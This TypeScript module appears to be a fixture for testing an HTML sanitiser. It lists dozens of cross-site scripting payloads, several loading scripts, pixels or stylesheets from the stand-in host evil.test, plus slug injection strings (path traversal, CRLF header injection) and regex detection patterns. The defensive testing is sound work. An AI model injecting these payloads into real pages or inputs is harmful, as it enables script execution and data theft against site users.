/** Markup that tries to run code, to request another host, or to cover the page; and its detection. */

/** A local picture as a text may have it. */
export const ownPicture = `/files/${'a'.repeat(64)}/grafik.webp`

export const markupAttacks: readonly (readonly [what: string, html: string])[] = [
  ['a script', '<script>alert(1)</script>'],
  ['a script in capital letters', '<ScRiPt src=//evil.test/x.js></sCrIpT>'],
  ['a script with a slash for a blank', '<script/src=//evil.test/x.js></script>'],
  ['a handler', '<p onclick="alert(1)" onmouseover=alert(1)>x</p>'],
  ['a handler behind a slash', '<p/onpointerenter=alert(1)>x</p>'],
  ['a handler behind a line break', '<p\nonclick\n=\nalert(1)>x</p>'],
  ['a handler that needs no hand', '<p onfocus=alert(1) autofocus tabindex=1 contenteditable>x</p>'],
  ['a handler of a movement', '<p style="animation:x" onanimationstart="alert(1)">x</p><details open ontoggle=alert(1)>x</details>'],
  ['a handler of a picture', `<img src="${ownPicture}" onerror="alert(1)" alt="x">`],
  ['a handler in a picture’s address', `<img src="${ownPicture}&quot; onerror=&quot;alert(1)">`],
  ['a handler in a picture’s words', `<img src="${ownPicture}" alt="&quot; onload=&quot;alert(1)">`],
  ['a picture that is none', '<img src=x onerror=alert(1)>'],
  ['javascript:', '<a href="javascript:alert(1)">x</a>'],
  ['javascript: with marks in between', '<a href="jav&#x09;ascript:alert(1)">x</a><a href=" &#14; javascript:alert(1)">y</a>'],
  ['javascript: in entities', '<a href="&#106;&#97;vascript&colon;alert(1)">x</a><a href="java&NewLine;script&colon;alert(1)">y</a>'],
  ['javascript: behind a page', '<a href="JaVaScRiPt://lapangan.test/%0aalert(1)">x</a>'],
  ['vbscript: and data:', '<a href="vbscript:x">x</a><a href="data:text/html;base64,PHNjcmlwdD4=">y</a>'],
  ['a data: picture', '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'],
  ['a picture of elsewhere', '<img src="https://evil.test/pixel.gif">'],
  ['a picture of elsewhere without a scheme', '<img src="//evil.test/pixel.gif"><img src="\\\\evil.test\\pixel.gif">'],
  ['a picture that climbs', `<img src="/files/${'a'.repeat(64)}/../../account">`],
  ['another call as a picture', '<img src="/crm/in/v1/lead/export">'],
  ['srcset', `<img srcset="https://evil.test/x 2x" src="${ownPicture}" alt="">`],
  ['srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['srcdoc beside a player', '<iframe src="https://youtu.be/dQw4w9WgXcQ" srcdoc="<script>alert(1)</script>"></iframe>'],
  ['a frame of elsewhere', '<iframe src="https://evil.test/embed/dQw4w9WgXcQ"></iframe>'],
  ['a frame that looks like a player', '<iframe src="https://www.youtube.com@evil.test/embed/x"></iframe>'],
  ['a frame of javascript:', '<iframe src="javascript:alert(1)"></iframe>'],
  ['a frame of data:', '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>'],
  ['a style', '<style>@import url(https://evil.test)</style><p style="background:url(javascript:alert(1))">x</p>'],
  ['a sheet', '<link rel=stylesheet href=//evil.test/x.css><link rel=import href=//evil.test>'],
  ['svg', '<svg><script>alert(1)</script><animate onbegin=alert(1)><a xlink:href="javascript:alert(1)">x</a></svg>'],
  ['svg that loads', '<svg/onload=alert(1)>'],
  ['svg with HTML in it', '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>'],
  ['svg that uses another', '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)></svg>#x"/></svg>'],
  ['svg that changes into a style', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'],
  ['mathml', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">'],
  [
    'mathml that leads somewhere',
    '<math href="javascript:alert(1)">x</math><math><maction actiontype=statusline xlink:href=javascript:alert(1)>y',
  ],
  [
    'a form that moves out of mathml',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style></mglyph></mtext>',
  ],
  [
    'text that turns into markup',
    '<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed><xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  ],
  [
    'a title and a text box',
    '<title><img title="</title><img src onerror=alert(1)>"></title><textarea></textarea><img src onerror=alert(1)>',
  ],
  ['nested comments', '<!--<!----><img src=x onerror=alert(1)>--><p>x</p>'],
  ['a comment that ends early', '<!--><script>alert(1)</script>-->'],
  ['a comment that ends with a bang', '<!-- --!><img src=x onerror=alert(1)> -->'],
  ['a conditional comment', '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->'],
  ['CDATA', '<![CDATA[<script>alert(1)</script>]]>'],
  ['a processing instruction', '<?xml version="1.0"?><?<img src=x onerror=alert(1)>?>'],
  ['noscript', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
  [
    'a template, a form, an object',
    '<template><script>alert(1)</script></template><form action=//evil.test><input name=x></form><object data=x>',
  ],
  ['a button that runs a form', '<button form=x formaction="javascript:alert(1)">x</button><isindex action=javascript:alert(1)>'],
  ['an embed and an applet', '<embed src="javascript:alert(1)"><applet code=x></applet>'],
  ['a base and a meta', '<base href=//evil.test><meta http-equiv=refresh content="0;url=javascript:alert(1)">'],
  ['a tag in a tag', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
  ['entities that are read twice', '&lt;script&gt;alert(1)&lt;/script&gt;<p>&amp;lt;img src=x onerror=alert(1)&amp;gt;</p>'],
  ['a tag that nothing closes', '<p>x</p><img src=x onerror=alert(1)//'],
  ['a film and a sound', '<video src=x onerror=alert(1)><source onerror=alert(1)></video><audio src=//evil.test autoplay>'],
  [
    'a table with a background',
    '<table background="javascript:alert(1)"><tr><td background=//evil.test onclick=alert(1)>x</td></tr></table>',
  ],
  ['an element of one’s own', '<x-evil onclick=alert(1) is=x>x</x-evil><slot name=x></slot>'],
  ['a popover', '<p popover id=x>x</p><button popovertarget=x onbeforetoggle=alert(1)>y</button>'],
  ['an id that hides a name of the page', '<p id="cookie" class="fixed inset-0" name="x">x</p>'],
]

/** None is a valid slug. */
export const slugAttacks: readonly string[] = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "x' onload='alert(1)",
  'javascript:alert(1)',
  'data:text/html,x',
  '../../account',
  '..%2f..%2faccount',
  '%3Cscript%3E',
  '//evil.test',
  '\\\\evil.test',
  'harga?x=1#y',
  'saham\u202egnirts',
  'saham\r\nSet-Cookie: x=1',
  'saham\u0000',
  '{{constructor}}',
]

const signs: readonly (readonly [what: string, sign: RegExp, of: 'names' | 'addresses'])[] = [
  [
    'an element that is never shown',
    /<(?:script|style|link|svg|math|object|embed|applet|form|input|button|textarea|base|meta|template|noscript|noembed|xmp|title|video|audio|source|x-evil|slot|details)\b/i,
    'names',
  ],
  [
    'an attribute that no text has',
    /<[^>]*\s(?:on\w+|style|srcdoc|srcset|id|class|name|background|popover|is|action|xlink:href)\s*=/i,
    'names',
  ],
  ['an address that runs', /\s(?:href|src)="\s*(?:javascript|vbscript|data):/i, 'addresses'],
  ['something of another place', /<(?:img|iframe)[^>]*evil\.test/i, 'addresses'],
  ['a picture that is not of here', /<img(?![^>]*\ssrc="\/files\/)/i, 'addresses'],
]

/** Problems of a stored or displayed text; empty when harmless. Attribute values are no markup. */
export function harmIn(html: string): string[] {
  const named = html.replace(/="[^"]*"/g, '=""')
  const addressed = html.replace(/\s(?:alt|title)="[^"]*"/g, '')
  return signs.filter(([, sign, of]) => sign.test(of === 'names' ? named : addressed)).map(([what]) => what)
}
